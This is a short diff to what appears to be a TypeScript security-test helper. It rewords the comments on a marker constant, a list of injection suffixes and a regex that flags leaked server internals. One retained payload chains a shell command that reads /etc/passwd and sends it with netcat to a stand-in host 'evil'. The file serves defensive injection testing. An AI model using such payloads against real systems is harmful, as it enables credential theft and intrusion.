@@ -1,7 +1,7 @@
-/** Stands in every payload: whoever finds it in the text of a statement has found a hole. */
+/** Part of every payload: finding it in the text of an SQL statement reveals an injection. */
 export const MARK = 'zqx7';
 
-/** Ends of texts that mean something to a database, a template, a log or a shell, were they ever read by one. */
+/** Suffixes with a special meaning for a database, template, log or shell. */
 export const INJECTIONS: string[] = [
   `'`,
   `"`,
@@ -29,6 +29,6 @@ export const INJECTIONS: string[] = [
   `; cat /etc/passwd | nc evil 1 & \`id\` $(id)`,
 ];
 
-/** Words that only the inside of a server says. */
+/** Matches internals that a response must not reveal. */
 export const INSIDE =
   /syntax error|pg_|relation "|column "|unterminated|QueryFailed|typeorm|node_modules|at \w+ \(|SELECT |stack/i;
